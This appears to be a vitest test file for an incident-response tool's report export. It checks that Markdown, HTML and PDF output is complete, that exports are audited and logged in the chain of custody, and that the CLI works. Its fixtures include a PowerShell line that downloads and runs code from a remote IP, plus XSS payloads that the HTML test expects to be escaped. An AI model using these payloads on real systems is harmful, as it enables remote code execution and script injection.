import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCli } from '../../test-support/cli-process.js'
import { ENGINES } from '../../test-support/stores.js'
import { startTestServer, type TestServer } from '../../test-support/test-server.js'

const LONG_WORD = `${'a1b2c3d4e5'.repeat(30)}` // 300 characters without a space
const LONG_DESCRIPTION = Array.from(
  { length: 40 },
  (_, n) => `Sentence ${n + 1} of the description explains what the attacker did on host ws-${n}.`,
).join(' ')
const HOSTILE_NOTE = [
  'Saw <script>alert(1)</script> in the page.',
  '<img src=x onerror="alert(2)">',
  '[click me](javascript:alert(3))',
].join('\n\n')

const EVIDENCE = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")\n')
const EVIDENCE_SHA256 = createHash('sha256').update(EVIDENCE).digest('hex')

const INCIDENT_HEADINGS = [
  'Description',
  'Impact',
  'Response times',
  'Alerts',
  'Timeline',
  'Tasks',
  'Follow-up actions',
  'Observables',
  'Evidence',
  'Notes',
]
const RCA_HEADINGS = [
  'Root-cause analysis',
  'Summary',
  'Detection',
  'Timeline of key events',
  'Root cause',
  'Contributing factors',
  'Five whys',
  'What went well',
  'What did not go well',
  'Action items',
]

/** Whitespace-free text: a wrapped line reads the same as the line it was. */
const squash = (text: string) => text.replace(/\s+/g, '')

for (const engine of ENGINES) {
  describe(`${engine}: incident report export`, () => {
    let server: TestServer
    let analyst: string
    let incidentId: number
    let work: string
    let evidenceId: number
    beforeAll(async () => {
      work = await mkdtemp(join(tmpdir(), 'wf-report-'))
      server = await startTestServer(engine, { dataDir: work })
      analyst = await server.tokenFor('analyst')
      const post = async <T>(path: string, body: unknown, method = 'POST'): Promise<T> => {
        const response = await server.request(path, { method, token: analyst, body: JSON.stringify(body) })
        const json = (await response.json()) as T
        if (response.status >= 400) throw new Error(`${path}: ${response.status} ${JSON.stringify(json)}`)
        return json
      }
      const incident = await post<{ id: number }>('/api/v1/incidents', {
        title: 'Ransomware staging on the file server',
        description: `${LONG_DESCRIPTION}\n\n${LONG_WORD}`,
        tlp: 'amber',
      })
      incidentId = incident.id
      for (let n = 1; n <= 70; n += 1) {
        await post(`/api/v1/incidents/${incidentId}/timeline`, {
          occurredAt: new Date(Date.UTC(2026, 10, 20, 8, n)).toISOString(),
          title: `Timeline row ${n}: share \\\\fs-01\\finance touched by svc_backup`,
          flagged: n % 10 === 0,
        })
      }
      await post(`/api/v1/incidents/${incidentId}/notes`, { body: HOSTILE_NOTE })
      await post(`/api/v1/incidents/${incidentId}/tasks`, {
        kind: 'follow_up',
        title: 'Block SMB from workstations to servers',
        owner: 'netops',
      })
      const uploaded = await server.request(`/api/v1/incidents/${incidentId}/evidence?name=stager.ps1`, {
        method: 'POST',
        token: analyst,
        headers: { 'content-type': 'application/octet-stream' },
        body: Uint8Array.from(EVIDENCE),
      })
      expect(uploaded.status).toBe(201)
      evidenceId = ((await uploaded.json()) as { id: number }).id
      await post(`/api/v1/incidents/${incidentId}/rca`, {})
      await post(
        `/api/v1/incidents/${incidentId}/rca`,
        {
          version: 1,
          rootCause: 'A service account with domain admin rights and a password unchanged since 2019.',
          contributingFactors: ['No tiering of admin accounts', LONG_WORD],
          fiveWhys: [
            { question: 'Why could it spread?', answer: 'Flat network between workstations and servers.' },
          ],
          wentWell: ['EDR caught the staging tool'],
          wentBadly: ['Nobody owned the service account'],
        },
        'PATCH',
      )
    }, 120_000)
    afterAll(async () => {
      await server?.close()
      if (work) await rm(work, { recursive: true, force: true })
    })

    const download = async (query: string) => {
      const response = await server.request(`/api/v1/incidents/${incidentId}/report?${query}`, {
        token: analyst,
      })
      expect(response.status).toBe(200)
      return { response, body: Buffer.from(await response.arrayBuffer()) }
    }

    it('renders Markdown from the bundled templates with every section and the hostile note as typed', async () => {
      const { response, body } = await download('format=md&include=rca')
      expect(response.headers.get('content-type')).toMatch(/^text\/markdown/)
      const text = body.toString('utf8')
      for (const heading of [...INCIDENT_HEADINGS, ...RCA_HEADINGS])
        expect(text).toMatch(new RegExp(`^#+ ${heading}$`, 'm'))
      expect(text).toContain('**TLP:AMBER**')
      expect(text).toContain(LONG_WORD)
      expect(text).toContain(`| stager.ps1 | \`${EVIDENCE_SHA256}\` |`)
      expect(text).toContain('| Timeline row 70')
      expect(text).toContain('Flat network between workstations and servers.')
      expect(text).toMatch(/\| \d+ \| Block SMB from workstations to servers \| netops \|/)
    })

    it('renders HTML with raw HTML from users shown as text, never as markup', async () => {
      const { response, body } = await download('format=html&include=rca')
      expect(response.headers.get('content-type')).toMatch(/^text\/html/)
      const html = body.toString('utf8')
      expect(html).not.toMatch(/<script/i)
      expect(html).not.toMatch(/<img/i)
      expect(html).not.toMatch(/href="javascript:/i)
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
      expect(html).toContain('TLP:AMBER')
      expect(html).toContain('<h2>What did not go well</h2>')
      expect(html).toMatch(/<td>Timeline row 70: share \\\\fs-01\\finance/)
    })

    it('renders a PDF a reader can use: every heading, nothing cut off, timeline rows, TLP and page numbers', async () => {
      const { response, body } = await download('format=pdf&include=rca')
      expect(response.headers.get('content-type')).toBe('application/pdf')
      expect(response.headers.get('content-disposition')).toContain(`incident-${incidentId}-rca.pdf`)
      const pdf = join(work, 'report.pdf')
      await writeFile(pdf, body)
      const text = execFileSync('pdftotext', ['-enc', 'UTF-8', pdf, '-'], { encoding: 'utf8' })
      const pages = Number(/^Pages:\s+(\d+)/m.exec(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' }))?.[1])
      expect(pages).toBeGreaterThan(1)
      for (const heading of [...INCIDENT_HEADINGS, ...RCA_HEADINGS])
        expect(text).toMatch(new RegExp(`^${heading}$`, 'm'))
      // Wrapped, not clipped: the 300-character word and the long description arrive whole.
      expect(squash(text)).toContain(LONG_WORD)
      expect(squash(text)).toContain(squash(LONG_DESCRIPTION))
      for (let n = 1; n <= 70; n += 1) expect(text).toContain(`Timeline row ${n}:`)
      expect(text).toContain(`Page ${pages} of ${pages}`)
      expect(text.match(/TLP:AMBER/g)?.length ?? 0).toBeGreaterThanOrEqual(pages * 2)
      expect(text).toContain('<script>alert(1)</script>')
      expect(squash(text)).toContain(EVIDENCE_SHA256)

      execFileSync('pdftoppm', ['-png', '-r', '50', pdf, join(work, 'page')])
      const images = (await readdir(work)).filter((name) => name.startsWith('page') && name.endsWith('.png'))
      expect(images).toHaveLength(pages)
    })

    it("uses the team's template folder, falling back to the bundled template for what it leaves out", async () => {
      const teamDir = join(work, 'team-templates')
      await execFileSync('mkdir', ['-p', teamDir])
      await writeFile(
        join(teamDir, 'incident.md.eta'),
        '# Post-incident report <%= it.incident.id %>\n\nPrepared for the board. Severity: <%= it.incident.severity %>.\n',
      )
      const teamServer = await startTestServer(engine, { reportTemplatesDir: teamDir })
      try {
        const token = await teamServer.tokenFor('analyst')
        const created = await teamServer.request('/api/v1/incidents', {
          method: 'POST',
          token,
          body: JSON.stringify({ title: 'Team template check' }),
        })
        const { id } = (await created.json()) as { id: number }
        const response = await teamServer.request(`/api/v1/incidents/${id}/report?format=md&include=rca`, {
          token,
        })
        const text = await response.text()
        expect(text).toContain(`# Post-incident report ${id}`)
        expect(text).toContain('Prepared for the board. Severity: medium.')
        expect(text).toContain('# Root-cause analysis')
        expect(text).not.toContain('## Observables')

        // A broken template names itself and the fault instead of a bare internal error.
        await writeFile(join(teamDir, 'incident.md.eta'), '# <%= it.incident.nothing.here %>\n')
        const broken = await teamServer.request(`/api/v1/incidents/${id}/report?format=md`, { token })
        expect(broken.status).toBe(500)
        const error = ((await broken.json()) as { error: { code: string; message: string } }).error
        expect(error.code).toBe('report_template')
        expect(error.message).toContain(join(teamDir, 'incident.md.eta'))
      } finally {
        await teamServer.close()
      }
    })

    it('audits every export', async () => {
      const rows = await server.services.store.db
        .selectFrom('audit_log')
        .select(['action', 'details'])
        .where('action', '=', 'incident.export')
        .where('target_id', '=', String(incidentId))
        .execute()
      const formats = rows.map((row) => (row.details as { format: string }).format)
      expect(formats).toEqual(expect.arrayContaining(['md', 'html', 'pdf']))
      // Listing the evidence with its hash in a report is an export in its chain of custody.
      const custody = await server.services.store.db
        .selectFrom('evidence_custody')
        .select(['action', 'reason'])
        .where('evidence_id', '=', evidenceId)
        .where('action', '=', 'export')
        .execute()
      expect(custody.map((row) => row.reason)).toEqual(
        expect.arrayContaining([
          'listed in the incident report (md)',
          'listed in the incident report (html)',
          'listed in the incident report (pdf)',
        ]),
      )
    })

    it('exports a PDF through the CLI', async () => {
      const output = join(work, 'cli.pdf')
      const result = await runCli(
        ['incident', 'export', String(incidentId), '--format', 'pdf', '-o', output],
        {
          env: { WATCHFLOOR_URL: server.baseUrl, WATCHFLOOR_TOKEN: analyst },
        },
      )
      expect(result.stderr).toContain(`wrote ${output}`)
      expect(result.code).toBe(0)
      expect((await readFile(output)).subarray(0, 5).toString()).toBe('%PDF-')
      const missing = await runCli(['incident', 'export', '999999', '--format', 'pdf', '-o', output], {
        env: { WATCHFLOOR_URL: server.baseUrl, WATCHFLOOR_TOKEN: analyst },
      })
      expect(missing.code).toBe(2)
      expect(missing.stderr).toContain('incident 999999 was not found')
    })
  })
}
